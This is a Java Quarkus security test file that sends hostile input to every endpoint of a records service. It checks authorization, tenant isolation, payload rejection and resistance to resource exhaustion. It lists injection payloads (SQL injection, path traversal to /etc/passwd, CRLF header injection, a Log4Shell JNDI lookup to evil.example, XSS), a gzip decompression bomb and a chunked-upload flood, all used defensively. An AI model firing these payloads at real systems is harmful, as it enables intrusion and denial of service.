package fr.vigie.records;

import static org.assertj.core.api.Assertions.assertThat;

import fr.vigie.testkit.Endpoint;
import fr.vigie.testkit.TestIssuer;
import fr.vigie.testkit.TestIssuer.Person;
import fr.vigie.testkit.TestKafka;
import fr.vigie.testkit.TestPostgres;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicLong;
import java.util.zip.GZIPOutputStream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

/// ATTACKS 21, 56, 57: every endpoint that the service's own OpenAPI page names is asked by those
/// it is not for, about persons of others, and with what no client of ours would send. An endpoint
/// that comes tomorrow is tried tomorrow.
@QuarkusTest
@WithTestResource(
    value = TestPostgres.class,
    initArgs = @ResourceArg(name = "database", value = "records"))
@WithTestResource(TestKafka.class)
@WithTestResource(TestIssuer.class)
@WithTestResource(TestKeys.class)
class HostileInputTest {

  private static final int SERIES = 95;
  private static final int NUMBER = 9_500;
  private static final String IMPORT = "/v1/imports/persons";

  private static final List<String> ODD =
      List.of(
          " ",
          "%",
          "\u0000",
          "\r\nX-Evil: 1",
          "' or 1=1--",
          "../../etc/passwd",
          "..%2f..%2f",
          "-1",
          "99999999999999999999",
          "null",
          "{{7*7}}",
          "${jndi:ldap://evil.example/a}",
          "<script>alert(1)</script>",
          "\u202Ea",
          "é",
          "💥",
          "1-1-1-1-1",
          "00000000-0000-0000-0000-00000000000",
          "a".repeat(3_000));

  private static final List<String> ODD_BODIES =
      List.of(
          "",
          "null",
          "[]",
          "0",
          "\"text\"",
          "{",
          "{}x",
          "{\"a\":1}{\"b\":2}",
          "{\"number\":\"98765400001\",\"number\":\"98765400002\"}",
          "{\"name\":{\"name\":{\"name\":\"x\"}}}",
          "{\"number\":1e999999999}",
          "{\"name\":\"" + "a".repeat(100_000) + "\"}",
          "[".repeat(5_000),
          "{\"a\":".repeat(5_000),
          "{\"\\u0000\":\"\\uD800\"}",
          // Mass assignment: what only the service may say.
          "{\"organisation\":\"CE-01\",\"by\":\"x\",\"roles\":[\"auditor\"],\"advisor\":\"x\","
              + "\"budget\":1000000,\"isAdmin\":true,\"__proto__\":{}}");

  @TestHTTPResource String service = "";

  @TestHTTPResource(value = "/openapi?format=json", management = true)
  String page = "";

  private final HttpClient http =
      HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

  @Test
  void nobody_without_a_token_a_role_or_an_agent_behind_is_answered() throws Exception {
    for (var endpoint : endpoints()) {
      var path = endpoint.with(UUID.randomUUID().toString());
      assertThat(ask(endpoint, path, null, "{}").statusCode()).as("%s", endpoint).isEqualTo(401);
      for (var role : List.of("auditor", "desk", "account-admin", "nobody")) {
        assertThat(ask(endpoint, path, bearer(person("FT", "FT-01", role)), "{}").statusCode())
            .as("%s as %s", endpoint, role)
            .isEqualTo(403);
      }
      // R32: a service account that names no agent.
      for (var key :
          List.of("launcher " + TestKeys.LAUNCHER, "registration " + TestKeys.REGISTRATION)) {
        assertThat(ask(endpoint, path, "Vigie-Service " + key, "{}").statusCode())
            .as("%s by %s", endpoint, key)
            .isEqualTo(403);
      }
    }
  }

  // By the log's reference, by one that the follower handed on, and by the stranger's own: one that
  // opens to nobody but the stranger, and that no page would give out.
  @Test
  void another_tenants_person_and_nobody_are_the_same_at_every_endpoint() throws Exception {
    var follower = Door.advisor(UUID.randomUUID().toString());
    Door.take(TestPeople.line(SERIES, NUMBER, Door.account(follower))).then().statusCode(200);
    var theirs = TestPeople.person(SERIES, NUMBER);
    Door.until(() -> Door.open(follower, theirs).statusCode() == 200);

    for (var endpoint : endpoints()) {
      if (!endpoint.isAbout("ref")) {
        continue;
      }
      for (var stranger :
          List.of(person("CE-01", "CE-01", "advisor"), person("FT", "FT-01", "advisor"))) {
        var token = TestIssuer.running().token(stranger);
        var nobody = Door.ref(token, UUID.randomUUID());
        var nobodys = ask(endpoint, endpoint.with(nobody), bearer(stranger), "{}");
        for (var reference :
            List.of(theirs.toString(), Door.ref(follower, theirs), Door.ref(token, theirs))) {
          var answer = ask(endpoint, endpoint.with(reference), bearer(stranger), "{}");
          assertThat(answer.statusCode()).as("%s", endpoint).isBetween(400, 499);
          assertThat(answer.statusCode()).as("%s", endpoint).isEqualTo(nobodys.statusCode());
          assertThat(withoutReference(answer))
              .as("%s", endpoint)
              .isEqualTo(withoutReference(nobodys));
        }
      }
    }
  }

  @Test
  void what_no_client_sends_is_refused_and_says_nothing_of_the_inside() throws Exception {
    for (var endpoint : endpoints()) {
      if (endpoint.path().contains("{")) {
        for (var odd : ODD) {
          isRefused(endpoint, ask(endpoint, endpoint.with(odd), everyRole(), "{}"));
        }
      }
      if (endpoint.takesJson()) {
        var path = endpoint.with(UUID.randomUUID().toString());
        for (var body : ODD_BODIES) {
          isRefused(endpoint, ask(endpoint, path, everyRole(), body));
        }
      }
      for (var odd : List.of("a".repeat(3_000), "' or 1=1--", "interview;drop", "é")) {
        var answer = headers(endpoint, odd);
        assertThat(answer.statusCode()).as("%s", endpoint).isLessThan(500);
        saysNothing(endpoint, answer);
      }
    }
  }

  @Test
  void a_body_beyond_a_mebibyte_is_not_read() throws Exception {
    for (var endpoint : endpoints()) {
      if (endpoint.takesJson()) {
        var path = endpoint.with(UUID.randomUUID().toString());
        try {
          var answer = ask(endpoint, path, everyRole(), " ".repeat(2_000_000));
          assertThat(answer.statusCode()).as("%s", endpoint).isEqualTo(413);
        } catch (IOException _) {
          // Cut off while it was still sending.
        }
      }
    }
  }

  // Sent for as long as anybody takes it: what was taken by the time of the answer is what it cost.
  @Test
  void of_a_gigabyte_little_is_taken() throws Exception {
    var at = URI.create(service);
    var chunk = ("10000\r\n" + " ".repeat(0x10000) + "\r\n").getBytes(StandardCharsets.UTF_8);
    var taken = new AtomicLong();
    Thread sender;
    try (var socket = new Socket(at.getHost(), at.getPort())) {
      socket.setSoTimeout(30_000);
      var out = socket.getOutputStream();
      out.write(
          ("POST /v1/search HTTP/1.1\r\nHost: localhost\r\nAuthorization: "
                  + everyRole()
                  + "\r\nVigie-Purpose: interview"
                  + "\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
              .getBytes(StandardCharsets.UTF_8));
      sender =
          Thread.ofVirtual()
              .start(() -> {
                try {
                  while (taken.get() < 1L << 30) {
                    out.write(chunk);
                    taken.addAndGet(chunk.length);
                  }
                } catch (IOException _) {
                  // Nobody takes any more.
                }
              });
      var answer = new byte[12];
      try {
        var _ = socket.getInputStream().readNBytes(answer, 0, answer.length);
        assertThat(new String(answer, StandardCharsets.UTF_8))
            .isIn("HTTP/1.1 413", "\0".repeat(12));
      } catch (SocketException _) {
        // Cut off while it was still sending.
      }
    }
    sender.join();
    assertThat(taken.get()).isLessThan(64L << 20);
  }

  @Test
  void a_bomb_is_not_unpacked() throws Exception {
    var bomb = new ByteArrayOutputStream();
    try (var zip = new GZIPOutputStream(bomb)) {
      zip.write("{\"a\":\"".getBytes(StandardCharsets.UTF_8));
      for (var mebibyte = 0; mebibyte < 256; mebibyte++) {
        zip.write(new byte[1 << 20]);
      }
    }
    for (var endpoint : endpoints()) {
      if (endpoint.takesJson()) {
        var request =
            request(endpoint, endpoint.with(UUID.randomUUID().toString()), everyRole(), "")
                .setHeader("Content-Encoding", "gzip")
                .method(endpoint.method(), BodyPublishers.ofByteArray(bomb.toByteArray()))
                .build();
        isRefused(endpoint, http.send(request, BodyHandlers.ofString()));
      }
    }
  }

  @Test
  void a_hundred_thousand_headers_or_parameters_are_not_read() throws Exception {
    var before = endpoints();
    var path = "/v1/portfolio";
    var many = HttpRequest.newBuilder(URI.create(service).resolve(path));
    for (var header = 0; header < 100_000; header++) {
      many.header("X-" + header, "x");
    }
    isCutOff(many.build());
    isCutOff(
        HttpRequest.newBuilder(
                URI.create(service).resolve(path + "?" + "a=1&".repeat(100_000) + "b=2"))
            .build());
    assertThat(endpoints()).isEqualTo(before);
  }

  private void isCutOff(HttpRequest request) throws InterruptedException {
    try {
      assertThat(http.send(request, BodyHandlers.ofString()).statusCode()).isBetween(400, 431);
    } catch (IOException _) {
      // Cut off while it was still sending.
    }
  }

  // A mistake in the fields is told before anybody is looked for, and says which address it was.
  private static String withoutReference(HttpResponse<String> answer) {
    return answer
        .body()
        .replaceAll("[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}|[A-Za-z0-9_-]{64}", "");
  }

  private static void isRefused(Endpoint endpoint, HttpResponse<String> answer) {
    assertThat(answer.statusCode()).as("%s: %s", endpoint, answer.body()).isBetween(400, 499);
    saysNothing(endpoint, answer);
  }

  private static void saysNothing(Endpoint endpoint, HttpResponse<String> answer) {
    assertThat(answer.headers().map()).doesNotContainKey("X-Evil").doesNotContainKey("x-evil");
    assertThat(answer.body().toLowerCase(Locale.ROOT))
        .as("%s", endpoint)
        .doesNotContain("exception", "at fr.vigie", "select ", "jackson", "io.vertx");
  }

  private List<Endpoint> endpoints() throws Exception {
    return Endpoint.all(page);
  }

  private static Person person(String organisation, String agency, String... roles) {
    return new Person(UUID.randomUUID().toString(), "x", organisation, agency, List.of(roles));
  }

  // Somebody else each time: whoever is refused that often is frozen.
  private static String everyRole() {
    return bearer(person("FT", "FT-01", "advisor", "manager", "privacy-officer"));
  }

  private static String bearer(Person person) {
    return "Bearer " + TestIssuer.running().token(person);
  }

  private HttpResponse<String> ask(
      Endpoint endpoint, String path, @Nullable String authorization, String body)
      throws Exception {
    var request = request(endpoint, path, authorization, body).build();
    try {
      return http.send(request, BodyHandlers.ofString());
    } catch (IOException _) {
      // The connection was closed behind a body that was not read to its end.
      return http.send(request, BodyHandlers.ofString());
    }
  }

  private HttpResponse<String> headers(Endpoint endpoint, String odd) throws Exception {
    var path = endpoint.with(UUID.randomUUID().toString());
    return http.send(
        request(endpoint, path, everyRole(), "{}")
            .setHeader("Vigie-Purpose", odd.replaceAll("[^ -~]", "?"))
            .setHeader("Vigie-Reason", odd.replaceAll("[^ -~]", "?"))
            .setHeader("Idempotency-Key", odd.replaceAll("[^ -~]", "?"))
            .setHeader("X-Correlation-Id", odd.replaceAll("[^ -~]", "?"))
            .build(),
        BodyHandlers.ofString());
  }

  private HttpRequest.Builder request(
      Endpoint endpoint, String path, @Nullable String authorization, String body) {
    var request =
        HttpRequest.newBuilder(URI.create(service).resolve(path))
            .header("Vigie-Purpose", "interview")
            .header(
                "Content-Type",
                endpoint.path().equals(IMPORT) ? "application/x-ndjson" : "application/json")
            .method(
                endpoint.method(),
                endpoint.method().equals("GET") || endpoint.method().equals("DELETE")
                    ? BodyPublishers.noBody()
                    : BodyPublishers.ofString(body));
    if (authorization != null) {
      request.header("Authorization", authorization);
    }
    return request;
  }
}
